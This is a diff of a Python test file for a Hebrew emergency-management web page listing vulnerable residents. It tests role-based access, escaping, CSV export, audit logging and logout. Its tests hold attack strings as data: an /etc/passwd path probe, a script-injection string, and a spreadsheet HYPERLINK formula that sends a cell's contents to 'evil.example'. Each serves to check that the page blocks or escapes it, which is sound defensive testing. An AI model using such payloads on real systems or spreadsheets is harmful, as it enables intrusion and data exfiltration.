@@ -1,18 +1,9 @@
-"""The read-only page over HTTP: who is asking, what they may see, escaping, downloads, security headers."""
+"""The read-only page over HTTP (local mode): what a role may see, escaping, downloads, security headers."""
 
 import re
-import urllib.error
-import urllib.parse
-import urllib.request
-
-import pytest
 
 from serving.audit import AuditLog
-from serving.web import CallerSource
-from tests.emergency.helpers import MUNI, serving
-
-MANAGER = CallerSource(role="emergency_manager", user="dana")
-BY_HEADER = CallerSource(role_header="X-Toshav-Role", user_header="X-Toshav-User")
+from tests.emergency.helpers import MUNI, csrf_of, local_page, post_form
 
 
 def picker_options(page: str) -> list[str]:
@@ -21,82 +12,68 @@ def picker_options(page: str) -> list[str]:
     return re.findall(r'<option value="([a-z_]+)"', picker)
 
 
-def fetch(url, data=None, headers=None):
-    body = urllib.parse.urlencode(data, doseq=True).encode() if data is not None else None
-    req = urllib.request.Request(url, data=body, headers=headers or {})
-    try:
-        with urllib.request.urlopen(req, timeout=30) as resp:
-            return resp.status, dict(resp.headers), resp.read()
-    except urllib.error.HTTPError as e:
-        return e.code, dict(e.headers), e.read()
-
-
 def test_page_is_hebrew_rtl_with_strict_headers(home):
-    with serving(home, MANAGER) as base:
-        status, headers, body = fetch(base + "/")
-        css_status, css_headers, _ = fetch(base + "/style.css")
-        missing, _, _ = fetch(base + "/etc/passwd")
-    page = body.decode()
-    assert status == 200 and '<html lang="he" dir="rtl">' in page
-    assert picker_options(page) == ["evacuation_assistance", "power_dependent", "alone_without_support",
-                                   "yachad_not_located", "household"]
-    assert "default-src 'none'" in headers["Content-Security-Policy"] and "script-src" not in headers["Content-Security-Policy"]
-    assert headers["Cache-Control"] == "no-store" and headers["X-Content-Type-Options"] == "nosniff"
-    assert css_status == 200 and css_headers["Content-Type"].startswith("text/css")
-    assert missing == 404
+    with local_page(home) as client:
+        page = client.get("/")
+        css = client.get("/style.css")
+        missing = client.get("/etc/passwd")
+    assert page.status_code == 200 and '<html lang="he" dir="rtl">' in page.text
+    assert picker_options(page.text) == ["evacuation_assistance", "power_dependent", "alone_without_support",
+                                        "yachad_not_located", "household"]
+    csp = page.headers["content-security-policy"]
+    assert "default-src 'none'" in csp and "script-src" not in csp and "<script" not in page.text
+    assert page.headers["cache-control"] == "no-store" and page.headers["x-content-type-options"] == "nosniff"
+    assert css.status_code == 200 and css.headers["content-type"].startswith("text/css")
+    assert missing.status_code == 404 and missing.headers["content-security-policy"] == csp
 
 
-def test_role_from_proxy_headers(fresh_home):
-    with serving(fresh_home, BY_HEADER) as base:
-        anonymous, _, _ = fetch(base + "/")
-        status, _, body = fetch(base + "/", headers={"X-Toshav-Role": "welfare", "X-Toshav-User": "yossi"})
-        denied, _, _ = fetch(base + "/run", {"q": "evacuation_assistance"},
-                             headers={"X-Toshav-Role": "welfare", "X-Toshav-User": "yossi"})
-    assert anonymous == 403
-    assert status == 200
-    assert picker_options(body.decode()) == ["alone_without_support", "yachad_not_located", "household"]
-    assert denied == 403
-    [entry] = AuditLog.of(MUNI, fresh_home).entries()
-    assert (entry.user_name, entry.role, entry.channel, entry.outcome) == ("yossi", "welfare", "web", "denied")
+def test_a_role_sees_only_its_lists(fresh_home):
+    with local_page(fresh_home, role="welfare", subject="yossi") as client:
+        page = client.get("/")
+        denied = post_form(client, "/run", {"q": "evacuation_assistance"})
+    assert picker_options(page.text) == ["alone_without_support", "yachad_not_located", "household"]
+    assert denied.status_code == 403
+    denial = next(e for e in AuditLog.of(MUNI, fresh_home).entries() if e.outcome == "denied")
+    assert (denial.subject, denial.role, denial.channel, denial.peer) == ("yossi", "welfare", "web", "127.0.0.1")
 
 
 def test_typed_text_and_stored_names_are_escaped(home):
-    with serving(home, MANAGER) as base:
-        _, _, body = fetch(base + "/run", {"q": "evacuation_assistance", "streets": "<script>alert(1)</script>"})
-        _, _, listing = fetch(base + "/run", {"q": "evacuation_assistance", "streets": "סוקולוב"})
-    page = body.decode()
-    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
-    listing = listing.decode()
-    assert '=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;לחץ&quot;)' in listing
+    with local_page(home) as client:
+        typed = post_form(client, "/run", {"q": "evacuation_assistance", "streets": "<script>alert(1)</script>"})
+        listing = post_form(client, "/run", {"q": "evacuation_assistance", "streets": "סוקולוב"}).text
+    assert "<script>" not in typed.text and "&lt;script&gt;alert(1)&lt;/script&gt;" in typed.text
+    assert '=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1,&#34;לחץ&#34;)' in listing
     assert 'HYPERLINK("' not in listing
 
 
 def test_bad_parameters_show_an_error_page(home):
-    with serving(home, MANAGER) as base:
-        status, _, body = fetch(base + "/run", {"q": "household", "house_number": "12"})
-    assert status == 400 and 'role="alert"' in body.decode()
+    with local_page(home) as client:
+        bad = post_form(client, "/run", {"q": "household", "house_number": "12"})
+    assert bad.status_code == 400 and 'role="alert"' in bad.text
 
 
 def test_export_downloads(fresh_home):
-    with serving(fresh_home, MANAGER) as base:
-        status, headers, body = fetch(base + "/export", {"q": "yachad_not_located", "streets": "סוקולב",
-                                                         "format": "csv"})
-        bad, _, _ = fetch(base + "/export", {"q": "yachad_not_located", "format": "pdf"})
-    assert status == 200 and headers["Content-Type"].startswith("text/csv")
-    assert headers["Content-Disposition"].startswith('attachment; filename="yachad_not_located_6600_')
-    text = body.decode("utf-8-sig")
-    assert body.startswith(b"\xef\xbb\xbf")
-    preamble, table = text.split("\r\n\r\n", 1)
+    with local_page(fresh_home) as client:
+        download = post_form(client, "/export", {"q": "yachad_not_located", "streets": "סוקולב", "format": "csv"})
+        bad = post_form(client, "/export", {"q": "yachad_not_located", "format": "pdf"})
+    assert download.status_code == 200 and download.headers["content-type"].startswith("text/csv")
+    assert download.headers["content-disposition"].startswith('attachment; filename="yachad_not_located_6600_')
+    assert download.content.startswith(b"\xef\xbb\xbf")
+    preamble, table = download.content.decode("utf-8-sig").split("\r\n\r\n", 1)
     assert table.count("\r\n") == 4                        # the header and three residents
     assert "יחד מדווחת על 3 תושבים" in preamble and "יחד: נתונים נכונים ל-" in preamble
-    assert bad == 400
-    [entry] = AuditLog.of(MUNI, fresh_home).entries()
-    assert (entry.query, entry.row_count, entry.exports, entry.channel) == ("yachad_not_located", 3, "csv", "web")
+    assert bad.status_code == 400
+    entries = AuditLog.of(MUNI, fresh_home).entries()
+    [granted] = [e for e in entries if e.query == "yachad_not_located" and e.outcome == "ok"]
+    assert (granted.row_count, granted.exports, granted.channel, granted.subject) == (3, "csv", "web", "dana")
+    [refused] = [e for e in entries if e.reason == "export_format"]
+    assert (refused.outcome, refused.peer) == ("invalid", "127.0.0.1")
 
 
-@pytest.mark.parametrize("kwargs", [dict(), dict(role="emergency_manager"), dict(user="dana"),
-                                    dict(role="emergency_manager", role_header="X-Role", user="dana"),
-                                    dict(role="root", user="dana")])
-def test_the_server_must_be_told_where_the_caller_comes_from(kwargs):
-    with pytest.raises(ValueError):
-        CallerSource(**kwargs)
+def test_logout_ends_the_session(home):
+    with local_page(home) as client:
+        token = csrf_of(client)
+        out = client.post("/logout", data={"csrf_token": token})
+        after = client.get("/")
+    assert out.status_code == 200 and "יצאת מהמערכת" in out.text
+    assert after.status_code == 401 and "<table" not in after.text
